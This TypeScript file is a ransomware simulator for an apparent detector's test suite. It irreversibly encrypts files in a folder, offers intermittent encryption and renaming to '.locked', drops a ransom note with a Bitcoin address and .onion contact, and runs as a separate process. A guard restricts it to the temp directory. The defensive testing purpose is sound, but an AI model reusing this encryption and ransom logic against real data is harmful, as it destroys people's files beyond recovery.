/**
 * A ransomware simulator, for the shield's tests only: it really encrypts (AES-256-CTR with a key
 * it throws away), so it must only ever be pointed at a throw-away folder.
 *
 * In: a folder and a mode — `inplace` (overwrite each file with its ciphertext) or `rename` (write
 * `NAME.locked` and delete `NAME`) — optionally encrypting only the first N KiB of each file
 * (intermittent encryption, as BlackCat/LockBit do on large files), dropping a ransom note in each
 * directory, walking in sorted order (as NTFS returns names) or in raw `readdir` order.
 * Out: the files it encrypted (count, printed as `encrypted N` when run as a program).
 * Why: the shield must be measured against an encryptor that runs at full speed as a separate
 * process, so that it has to be found in `/proc` and stopped; `spawnSimulator` starts this file as
 * such a child (`node [--import tsx] simulator.(ts|js) '{json options}'`).
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { createCipheriv, randomBytes } from 'node:crypto';
import { closeSync, openSync, readdirSync, readFileSync, readSync, unlinkSync, writeFileSync, writeSync } from 'node:fs';
import { realpathSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve, sep } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';

export interface SimulatorOptions {
  root: string;
  mode: 'inplace' | 'rename';
  /** Encrypt only the first N KiB of each file (0 or absent: the whole file). */
  partialKB?: number;
  /** Drop a ransom note in each directory before encrypting it (default true). */
  notes?: boolean;
  /** `sorted` (default): names in code-point order, as on NTFS; `readdir`: the file system's order. */
  order?: 'sorted' | 'readdir';
  /** Extension of renamed copies (default `.locked`). */
  extension?: string;
  /** Pause between files (ms; default 0: full speed). */
  delayMs?: number;
}

export const NOTE_NAME = 'HOW_TO_DECRYPT_FILES.txt';

const NOTE_TEXT = `!!! YOUR FILES HAVE BEEN ENCRYPTED !!!

All your documents, photos and databases have been encrypted with a strong algorithm (AES-256).
You cannot decrypt them without the private key, which only we have.

To get your files back, pay 0.05 Bitcoin (BTC) to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh
then contact us through Tor Browser: http://vigiltestsimulatorabcdefghijklmnopqrstuvwxyz234567ab.onion
Your personal ID: TEST-SIMULATOR-0000

Do not rename or modify encrypted files. Do not try to decrypt with third party software.
This note was written by the vigil test suite's simulator; no real attacker is involved.
`;

/** Encrypts the tree synchronously, as fast as it can. Returns how many files it encrypted. */
export function runSimulator(opts: SimulatorOptions): number {
  // It destroys data: refuse anything but a folder under the temporary directory.
  const tmp = realpathSync(tmpdir());
  const target = realpathSync(resolve(opts.root));
  if (!target.startsWith(tmp + sep)) throw new Error(`simulator: refusing ${target}, not under ${tmp}`);
  const key = randomBytes(32);
  const ext = opts.extension ?? '.locked';
  const limit = opts.partialKB && opts.partialKB > 0 ? opts.partialKB * 1024 : Infinity;
  let count = 0;
  const pause = opts.delayMs && opts.delayMs > 0 ? new Int32Array(new SharedArrayBuffer(4)) : null;
  const walk = (dir: string): void => {
    let entries;
    try {
      entries = readdirSync(dir, { withFileTypes: true });
    } catch {
      return;
    }
    if (opts.order !== 'readdir') entries.sort((a, b) => (a.name < b.name ? -1 : a.name > b.name ? 1 : 0));
    if (opts.notes !== false) {
      try {
        writeFileSync(join(dir, NOTE_NAME), NOTE_TEXT);
      } catch {
        // Read-only directory: go on.
      }
    }
    for (const e of entries) {
      const p = join(dir, e.name);
      if (e.isDirectory()) {
        walk(p);
        continue;
      }
      if (!e.isFile() || e.name === NOTE_NAME || e.name.endsWith(ext)) continue;
      try {
        encryptOne(p, key, opts.mode, ext, limit);
        count++;
      } catch {
        // Busy, gone or not ours: skip it as real encryptors do.
      }
      if (pause) Atomics.wait(pause, 0, 0, opts.delayMs);
    }
  };
  walk(opts.root);
  return count;
}

function encryptOne(path: string, key: Buffer, mode: SimulatorOptions['mode'], ext: string, limit: number): void {
  const iv = randomBytes(16);
  const cipher = createCipheriv('aes-256-ctr', key, iv);
  if (mode === 'inplace') {
    const fd = openSync(path, 'r+');
    try {
      const size = Math.min(limit, 64 * 1024 * 1024);
      const buf = Buffer.alloc(Math.min(size, 1 << 20));
      let pos = 0;
      while (pos < size) {
        const n = readSync(fd, buf, 0, Math.min(buf.length, size - pos), pos);
        if (n <= 0) break;
        const enc = cipher.update(buf.subarray(0, n));
        writeSync(fd, enc, 0, enc.length, pos);
        pos += n;
      }
    } finally {
      closeSync(fd);
    }
    return;
  }
  const data = readFileSync(path);
  const cut = Math.min(limit, data.length);
  const out = Buffer.concat([cipher.update(data.subarray(0, cut)), data.subarray(cut), iv]);
  writeFileSync(path + ext, out);
  unlinkSync(path);
}

/** Starts the simulator as a separate Node process (stdout: `encrypted N` when done). */
export function spawnSimulator(opts: SimulatorOptions): ChildProcess {
  const self = fileURLToPath(import.meta.url);
  const args = self.endsWith('.ts') ? ['--import', 'tsx', self] : [self];
  return spawn(process.execPath, [...args, JSON.stringify(opts)], { stdio: ['ignore', 'pipe', 'pipe'] });
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  const arg = process.argv[2];
  if (!arg) {
    process.stderr.write("usage: simulator '{\"root\":\"/tmp/x\",\"mode\":\"inplace|rename\"}'\n");
    process.exit(2);
  }
  const opts = JSON.parse(arg) as SimulatorOptions;
  if (!opts.root || (opts.mode !== 'inplace' && opts.mode !== 'rename')) {
    process.stderr.write('simulator: root and mode (inplace|rename) are required\n');
    process.exit(2);
  }
  process.stdout.write(`started ${process.pid}\n`);
  const n = runSimulator(opts);
  process.stdout.write(`encrypted ${n}\n`);
}
